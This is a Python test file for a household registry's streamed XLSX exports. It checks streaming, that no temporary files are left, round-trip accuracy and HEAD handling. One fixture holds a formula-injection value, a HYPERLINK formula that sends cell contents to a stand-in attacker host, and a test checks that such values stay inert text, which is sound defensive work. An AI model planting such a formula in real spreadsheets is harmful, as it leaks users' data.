"""The XLSX exports (村册, 乡簿, 县档) stream as they are written, on real PostgreSQL (QA8 SS-1, SS-2).

The workbook used to be written whole to a temporary file before the first byte: a county's archive took
minutes, so the gateway's 30 s read timeout always answered 504, and a client gone by then left the file,
full resident IDs and all, in the temporary directory. Now the first bytes leave before the second page
of households is read, nothing is written to disk, and the workbook still reads back as the stored data.
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import datetime
import io
import itertools
import tempfile
import uuid
import warnings
import zipfile
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from fupin_kit import divisions
from fupin_kit.pii import check_digit
from registry.exports import service as export_service
from registry.exports import xlsx_books
from registry.exports.columns import Disclosure, household_values, member_values
from registry.exports.service import HouseholdFile
from registry.households.router import _cipher

VILLAGE = "520102016001"  # 纪念塔社区, 新华路街道, 南明区
SIBLING = "520102016002"
TOWNSHIP = "520102016000"
COUNTY = "520102000000"
FORMULA_LOOKING = {
    "address": '=HYPERLINK("http://evil.example/?x="&A2,"点击")',
    "village_group": "+三组",
    "bank_name": "@x",
}
LOCAL_HEADER = b"PK\x03\x04"
_serial = itertools.count(1)


def resident_id(male: bool) -> str:
    first17 = f"52010219700101{(next(_serial) * 2 + (1 if male else 0)) % 1000:03d}"
    return first17 + check_digit(first17)


def person(name: str, relation: str, male: bool) -> dict[str, Any]:
    return {
        "name": name,
        "sex": "male" if male else "female",
        "resident_id": resident_id(male),
        "relation": relation,
        "health": "healthy",
        "labour_capacity": "ordinary",
    }


def household(division: str, head: str, members: list[dict[str, Any]], **fields: Any) -> dict[str, Any]:
    return {
        "division": division,
        "village_group": "三组",
        "address": "纪念塔路 8 号",
        "head_name": head,
        "phone": "13800000000",
        "bank_name": "农村信用社",
        "bank_account": "6228480012345678",
        "identification_standard": "national",
        "attribute": "dibao_poor",
        "main_cause": "illness",
        "other_causes": ["lack_capital"],
        "living": {
            "housing_area": "62.5",
            "housing_structure": "brick_wood",
            "housing_year_built": 1998,
            "housing_safety_grade": "C",
            "has_electricity": True,
            "fuel": "firewood",
            "drinking_water": "difficult",
        },
        "members": members,
        "registered_on": "2020-01-01",
        **fields,
    }


def county_headers(registry: Any) -> dict[str, str]:
    headers: dict[str, str] = registry.auth("county", COUNTY, ["officer"])
    return headers


async def populate(registry: Any) -> None:
    """Three households over two villages, one of them with formula-looking text and an income record."""
    bodies = [
        household(VILLAGE, "王德贵", [person("王德贵", "head", True), person("李秀英", "spouse", False)]),
        household(VILLAGE, "钱多多", [person("钱多多", "head", True)], **FORMULA_LOOKING),
        household(SIBLING, "孙国强", [person("孙国强", "head", True), person("孙丽", "daughter", False)]),
    ]
    ids = []
    for body in bodies:
        response = await registry.client.post("/households", json=body, headers=county_headers(registry))
        assert response.status_code == 201, response.text
        ids.append(response.json()["id"])
    response = await registry.client.put(
        f"/households/{ids[0]}/incomes/2023",
        json={"wage": "6000", "business": "2000", "transfer": "1500", "production_costs": "500"},
        headers=county_headers(registry),
    )
    assert response.status_code == 200, response.text


async def stored_files(registry: Any) -> list[HouseholdFile]:
    async with export_service.snapshot_session(registry.app.state.sessionmaker) as snapshot:
        lo, hi = export_service.Scope(COUNTY, "南明区", divisions.Level.COUNTY).range
        return [file async for page in export_service.household_files(snapshot, lo, hi) for file in page]


def full_disclosure(registry: Any) -> Disclosure:
    return Disclosure(cipher=_cipher(_RequestLike(registry.app)), full=True)  # type: ignore[arg-type]


@dataclasses.dataclass
class _RequestLike:
    app: Any


def paged(files: list[HouseholdFile], size: int, reads: list[int] | None = None) -> xlsx_books.Pages:
    """A page source over `files` that counts, in `reads`, the pages read so far."""

    async def pages() -> AsyncIterator[list[HouseholdFile]]:
        for start in range(0, len(files), size):
            if reads is not None:
                reads.append(start)
            yield files[start : start + size]

    return pages


def strict_workbook(body: bytes) -> Any:
    """openpyxl reading the whole workbook (not read-only), any warning an error."""
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        return load_workbook(io.BytesIO(body))


def as_read_back(value: Any) -> Any:
    """What a stored value reads back as from a cell: empty text is no cell, a date a midnight datetime."""
    if value == "":
        return None
    if isinstance(value, datetime.date) and not isinstance(value, datetime.datetime):
        return datetime.datetime.combine(value, datetime.time())
    if isinstance(value, Decimal):
        return float(value)
    return value


def rows_of(sheet: Any) -> list[list[Any]]:
    return [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]


def copies(files: list[HouseholdFile], count: int) -> list[HouseholdFile]:
    """`count` households shaped as the stored ones (each with its own id), in (division, id) order."""
    made = []
    for n in range(count):
        original = files[n % len(files)]
        made.append(dataclasses.replace(original, household={**original.household, "id": uuid.uuid4()}))
    return sorted(made, key=lambda file: (str(file.household["division"]), str(file.household["id"])))


async def collect(chunks: AsyncIterator[bytes]) -> bytes:
    return b"".join([chunk async for chunk in chunks])


async def test_the_first_bytes_leave_before_the_second_page_is_read(writable_registry) -> None:
    registry = writable_registry
    await populate(registry)
    files = await stored_files(registry)
    disclosure = full_disclosure(registry)
    villages = [{"code": VILLAGE, "name": "纪念塔社区"}, {"code": SIBLING, "name": "沙坡社区"}]
    for workbook in ("register", "book"):
        reads: list[int] = []
        pages = paged(files, 1, reads)
        if workbook == "register":
            chunks = xlsx_books.register(pages, {VILLAGE: "纪念塔社区"}, disclosure)
        else:
            chunks = xlsx_books.book(villages, [], pages, disclosure)
        first = await anext(chunks)
        assert first.startswith(LOCAL_HEADER) and len(reads) <= 1
        rest = await collect(chunks)
        assert len(reads) > len(files)  # every page was read afterwards (a pass per sheet)
        strict_workbook(first + rest)


async def test_the_archive_route_sends_its_first_bytes_before_reading_the_second_page(
    writable_registry, monkeypatch
) -> None:
    """At the route: the first body bytes go out while only one page of households has been read."""
    registry = writable_registry
    await populate(registry)
    reads: list[int] = []
    original = export_service.household_files

    async def counted(*args: Any, **kwargs: Any) -> AsyncIterator[list[HouseholdFile]]:
        async for page in original(*args, **kwargs):
            reads.append(len(page))
            yield page

    monkeypatch.setattr(export_service, "household_files", counted)
    monkeypatch.setattr(export_service, "PAGE_SIZE", 1)
    read_at_first_byte: list[int] = []

    def on_body(message: dict[str, Any]) -> None:
        if message.get("body") and not read_at_first_byte:
            read_at_first_byte.append(len(reads))

    messages = await asgi_get(registry, f"/exports/counties/{COUNTY}/archive.xlsx", on_body=on_body)
    assert read_at_first_byte == [0]  # the zip entry of the first sheet starts before any page
    body = b"".join(m.get("body", b"") for m in messages if m["type"] == "http.response.body")
    assert len(strict_workbook(body)["户"]["A"]) == 4  # header and three households


async def asgi_get(
    registry: Any, path: str, on_body: Any = None, disconnect_after_chunks: int | None = None
) -> list[dict[str, Any]]:
    """Call the app as uvicorn does (ASGI spec 2.3: the response listens for the client's disconnect).
    With `disconnect_after_chunks`, the client is gone once that many body chunks were sent (0: before
    the response starts)."""
    headers = [(k.lower().encode(), v.encode()) for k, v in county_headers(registry).items()]
    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.3"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": b"",
        "headers": [(b"host", b"registry"), *headers],
        "client": ("127.0.0.1", 50000),
        "server": ("registry", 80),
    }
    messages: list[dict[str, Any]] = []
    gone = asyncio.Event()
    if disconnect_after_chunks == 0:
        gone.set()
    asked = False

    async def receive() -> dict[str, Any]:
        nonlocal asked
        if not asked:
            asked = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await gone.wait()
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        if gone.is_set():
            raise OSError("the client has gone")
        messages.append(message)
        if message["type"] == "http.response.body" and on_body is not None:
            on_body(message)
        chunks = sum(1 for m in messages if m["type"] == "http.response.body" and m.get("body"))
        if disconnect_after_chunks is not None and chunks >= disconnect_after_chunks:
            gone.set()

    with contextlib.suppress(OSError):  # the client has gone: what uvicorn's send raises then
        await registry.app(scope, receive, send)
    return messages


def export_files(directory: Path) -> list[Path]:
    return sorted(directory.iterdir())


@pytest.mark.parametrize(
    "path", ["counties/{c}/archive.xlsx", "villages/{v}/register.xlsx", "townships/{t}/book.xlsx"]
)
async def test_no_file_is_left_in_the_temporary_directory(
    writable_registry, monkeypatch, tmp_path, path
) -> None:
    """After a download, after a client gone before the response starts (SS-1: the finished workbook with
    full IDs stayed in /tmp) and after a client gone after the first chunk."""
    registry = writable_registry
    await populate(registry)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    monkeypatch.setattr(export_service, "PAGE_SIZE", 1)
    url = "/exports/" + path.format(c=COUNTY, v=VILLAGE, t=TOWNSHIP)

    response = await registry.client.get(url, headers=county_headers(registry))
    assert response.status_code == 200 and response.content.startswith(LOCAL_HEADER)
    assert export_files(tmp_path) == []

    for chunks in (0, 1):
        await asgi_get(registry, url, disconnect_after_chunks=chunks)
        await asyncio.sleep(0.2)  # anything the app left running has had its chance to write
        assert export_files(tmp_path) == [], chunks


async def test_a_workbook_of_thousands_of_rows_reads_back_as_the_stored_data(writable_registry) -> None:
    registry = writable_registry
    await populate(registry)
    stored = await stored_files(registry)
    files = copies(stored, 3000)
    names = {VILLAGE: "纪念塔社区", SIBLING: "沙坡社区"}
    disclosure = full_disclosure(registry)
    chunks = [chunk async for chunk in xlsx_books.register(paged(files, 250), names, disclosure)]
    assert len(chunks) > 3000 // 250  # the body flows page by page, not at the end
    body = b"".join(chunks)
    workbook = strict_workbook(body)
    assert workbook.sheetnames == ["户", "成员"]

    expected_households = [
        [
            as_read_back(v)
            for v in household_values(f.household, names.get(f.household["division"]), disclosure, f.income)
        ]
        for f in files
    ]
    expected_members = [
        [as_read_back(v) for v in member_values(m, f.household, disclosure)] for f in files for m in f.members
    ]
    assert rows_of(workbook["户"]) == expected_households
    assert rows_of(workbook["成员"]) == expected_members
    assert len(expected_members) > 3000
    with zipfile.ZipFile(io.BytesIO(body)) as archive:  # no ZIP64 fields: Excel refuses needless ones
        assert all(info.extra == b"" for info in archive.infolist())


async def test_formula_looking_text_stays_text_in_every_streamed_workbook(writable_registry) -> None:
    registry = writable_registry
    await populate(registry)
    for path, sheet_title in (
        (f"/exports/villages/{VILLAGE}/register.xlsx", "户"),
        (f"/exports/townships/{TOWNSHIP}/book.xlsx", "纪念塔社区"),
        (f"/exports/counties/{COUNTY}/archive.xlsx", "户"),
    ):
        response = await registry.client.get(path, headers=county_headers(registry))
        assert response.status_code == 200, response.text
        sheet = strict_workbook(response.content)[sheet_title]
        header = [cell.value for cell in sheet[1]]
        row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("户主姓名")].value == "钱多多")
        for column, text in (("家庭住址", FORMULA_LOOKING["address"]), ("组", "+三组"), ("开户银行", "@x")):
            cell = row[header.index(column)]
            assert (cell.value, cell.data_type) == (text, "s"), (path, column)
        assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r), path
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            assert all(b"<f>" not in archive.read(name) for name in archive.namelist()), path


async def test_head_answers_the_headers_without_writing_a_workbook(writable_registry, monkeypatch) -> None:
    registry = writable_registry

    async def no_reading(*args: Any, **kwargs: Any) -> AsyncIterator[list[HouseholdFile]]:
        raise AssertionError("a HEAD must not read the households")
        yield []

    monkeypatch.setattr(export_service, "household_files", no_reading)
    response = await registry.client.head(
        f"/exports/counties/{COUNTY}/archive.xlsx", headers=county_headers(registry)
    )
    assert response.status_code == 200 and response.content == b""
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
